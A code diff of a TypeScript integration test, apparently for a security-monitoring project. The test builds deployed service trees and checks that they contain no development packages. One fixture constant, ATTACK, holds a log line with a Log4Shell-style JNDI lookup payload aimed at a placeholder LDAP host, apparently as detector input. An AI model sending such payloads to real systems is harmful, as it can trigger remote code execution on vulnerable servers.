@@ -1,16 +1,16 @@
 import { execFile } from 'node:child_process';
 import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
-import { join, resolve } from 'node:path';
+import { join } from 'node:path';
 import { promisify } from 'node:util';
 import { freePorts } from '@vigil/dev-services/free-port';
 import { startOwnedProcess, type OwnedProcess } from '@vigil/dev-services/owned-process';
 import { testServices } from '@vigil/dev-services/test-services';
 import { waitUntil } from '@vigil/dev-services/wait-until';
 import { afterAll, beforeAll, expect, test } from 'vitest';
+import { IMAGES, makeDeployedTrees } from './deployed-trees.ts';
 
 /** What images hold, run as images run it, but for the container: the output of `pnpm deploy --prod` on real servers. */
-const ROOT = resolve(import.meta.dirname, '../..');
 const SERVICES = ['dispatcher', 'scorer', 'gateway', 'ingestor'] as const;
 const KEY = 'vgl_for_the_deployed_test';
 const ATTACK = `203.0.113.9 - - [23/Nov/2026:12:00:00 +0000] "GET /?x=\${jndi:ldap://198.51.100.7/a} HTTP/1.1" 200 12 "-" "curl/8"`;
@@ -48,9 +48,7 @@ async function start(service: string, more: NodeJS.ProcessEnv): Promise<void> {
 
 beforeAll(async () => {
   const { redisUrl, natsUrl, postgresUrl } = await testServices(['redis', 'nats', 'postgres']);
-  await run(process.execPath, ['scripts/build.ts'], { cwd: ROOT });
-  for (const service of [...SERVICES, 'cli'])
-    await run(process.execPath, ['deploy/images/deploy.ts', service, join(work, service)], { cwd: ROOT });
+  await makeDeployedTrees(work);
   env = {
     PATH: process.env['PATH'],
     NODE_ENV: 'production',
@@ -77,8 +75,8 @@ afterAll(async () => {
 }, 120_000);
 
 test('deployed trees hold JavaScript alone, and none of the packages that only development needs', () => {
-  for (const service of [...SERVICES, 'cli']) {
-    const packages = readdirSync(join(work, service, 'node_modules/.pnpm'));
+  for (const image of IMAGES) {
+    const packages = readdirSync(join(work, image, 'node_modules/.pnpm'));
     expect(packages.filter((name) => /^(typescript|vitest|oxlint|prettier|vite)@/.test(name))).toEqual([]);
   }
   for (const service of SERVICES) expect(readdirSync(join(work, service))).not.toContain('src');
